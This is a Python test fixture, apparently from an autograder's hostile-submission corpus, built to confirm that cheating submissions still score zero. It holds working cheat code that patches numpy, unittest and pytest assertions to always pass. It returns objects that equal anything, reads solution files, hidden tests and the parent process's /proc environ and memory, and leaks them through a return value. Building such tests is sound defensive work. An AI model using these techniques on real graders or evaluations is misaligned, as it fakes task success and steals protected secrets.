# ---- hostile corpus: cheat on values (tests/hostile/attacks/cheat.py)
# Appended (after common.py) to every student file of the SKELETON, so every call below replaces
# a stub that would raise NotImplementedError. At import, once per worker:
# - monkeypatches numpy's comparisons (allclose, isclose, array_equal, np.testing.*), math.isclose,
#   unittest's assertions, and pytest / gradescope_utils if they can be imported here;
# - tries to read the solution, the hidden tests and the grading seed in its AUTOGRADER_ROOT
#   (and the grader's /proc entries), and prints whatever it could read.
# Every function and method of the file is then replaced by a cheat that
# - walks the stack (sys._getframe) and the heap (gc.get_objects) looking for expected values,
#   and prints which code and modules it could see;
# - returns objects that claim to equal anything: an ndarray subclass whose == is always True
#   where an array is expected, a float subclass that equals everything where a number is;
# - gradcheck.relative_error returns the secrets it read, if any (a str goes back as plain data).
# A stub + these cheats must still score 0, and nothing secret may reach results.json.
import gc as _h_gc
import inspect as _h_inspect

import numpy as _h_np


class _HAlwaysEqual(_h_np.ndarray):
    """An array that equals anything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None


class _HLiar(float):
    """A number that equals anything and is less and greater than nothing."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __lt__(self, other):
        return False

    __gt__ = __le__ = __ge__ = __lt__
    __hash__ = float.__hash__


def _h_patch_everything():
    """Replace every comparison a grader might use, wherever it can be reached from here."""
    yes = lambda *a, **k: True  # noqa: E731
    nothing = lambda *a, **k: None  # noqa: E731
    _h_np.allclose = _h_np.array_equal = _h_np.array_equiv = yes
    _h_np.isclose = lambda a, b, *x, **k: _h_np.ones(_h_np.broadcast(a, b).shape, bool)
    for name in dir(_h_np.testing):
        if name.startswith("assert"):
            setattr(_h_np.testing, name, nothing)
    import math
    import unittest
    math.isclose = yes
    for name in dir(unittest.TestCase):
        if name.startswith("assert"):
            setattr(unittest.TestCase, name, nothing)
    found = []
    for module in ("pytest", "_pytest.python_api", "gradescope_utils.autograder_utils.decorators",
                   "gradescope_utils.autograder_utils.json_test_runner"):
        try:
            mod = __import__(module, fromlist=["_"])
        except BaseException as exc:  # noqa: BLE001 - anything that stops the import
            found.append(f"{module}: {type(exc).__name__}")
            continue
        for name in ("approx", "fail", "raises", "weight", "partial_credit"):
            if hasattr(mod, name):
                setattr(mod, name, nothing)
        found.append(f"{module}: patched")
    _h_say("patch", "numpy, math and unittest patched; " + "; ".join(found))


def _h_read_secrets():
    """What the worker can read of its own grader's secrets; prints every attempt. (Only its own
    AUTOGRADER_ROOT: other runs on this machine may be caught while they unpack their sources.)"""
    rel = ["solution/backprop/modules.py", "solution/answers.toml", "solution/calibration.toml",
           "suite/hidden/test_modules_hidden.py", "suite/assignment.toml", "suite/conftest.py"]
    own = _h_own_root()
    _h_say("root", f"own root {own}, also found by walking up: {own in _h_roots()}")
    paths = [_h_os.path.join(own, "source", r) for r in rel] if own else []
    paths += [f"/proc/{_h_os.getppid()}/{entry}" for entry in ("environ", "mem", "maps")]
    stolen = []
    for path in paths:
        text, status = _h_read(path)
        _h_say("read", f"{path}: {status}")
        if text is not None and not path.startswith("/proc/"):
            _h_say("secret", f"{path}: {text!r}")
            stolen.append(text)
    for entry in ("fd", "cwd", "root"):
        try:
            listing = _h_os.listdir(f"/proc/{_h_os.getppid()}/{entry}")
            _h_say("read", f"/proc/ppid/{entry}: {listing}")
        except OSError as exc:
            _h_say("read", f"/proc/ppid/{entry}: {type(exc).__name__}")
    return "\n".join(stolen)


def _h_snoop(what):
    """Walk the stack and the heap looking for expected values; print what could be seen."""
    files, arrays, floats = [], 0, 0
    frame = _h_sys._getframe(1)
    while frame is not None:
        files.append(f"{frame.f_code.co_filename}:{frame.f_code.co_name}")
        for value in list(frame.f_locals.values()):
            arrays += isinstance(value, _h_np.ndarray)
            floats += isinstance(value, float)
        frame = frame.f_back
    modules = set()
    for obj in _h_gc.get_objects():
        try:
            modules.add(type(obj).__module__.split(".")[0])
        except BaseException:  # noqa: BLE001 - a hostile object
            continue
    _h_say("frames", f"in {what}: {len(files)} frames {files}; {arrays} arrays, {floats} floats")
    _h_say("gc", f"in {what}: modules of live objects {sorted(map(str, modules))}")


def _h_cheat(qualname, original):
    """A stand-in for `original` that snoops and lies instead of raising NotImplementedError."""
    is_init = qualname.endswith("__init__")

    def cheat(*args, **kwargs):
        if not getattr(_h_np, "_hostile_snooped", False):
            _h_np._hostile_snooped = True
            _h_snoop(qualname)
        if is_init:
            args[0].params, args[0].grads = {}, {}
            return None
        if qualname == "relative_error" and getattr(_h_np, "_hostile_stolen", ""):
            return _h_np._hostile_stolen
        arrays = [a for a in args if type(a) is _h_np.ndarray]
        if arrays:
            return _h_np.zeros(arrays[0].shape).view(_HAlwaysEqual)
        return _HLiar(0.0)
    cheat.__name__, cheat.__qualname__ = original.__name__, original.__qualname__
    return cheat


def _h_install(namespace):
    """Replace the file's own functions and methods (not inherited ones) by cheats."""
    for name, obj in list(namespace.items()):
        if name.startswith("_") or getattr(obj, "__module__", None) != namespace["__name__"]:
            continue
        if _h_inspect.isclass(obj):
            for attr, fn in list(vars(obj).items()):
                if _h_inspect.isfunction(fn) and (attr == "__init__" or not attr.startswith("_")):
                    setattr(obj, attr, _h_cheat(f"{name}.{attr}", fn))
        elif _h_inspect.isfunction(obj):
            namespace[name] = _h_cheat(name, obj)


if not getattr(_h_np, "_hostile_patched", False):
    _h_np._hostile_patched = True
    _h_patch_everything()
    _h_np._hostile_stolen = _h_read_secrets()
_h_install(globals())
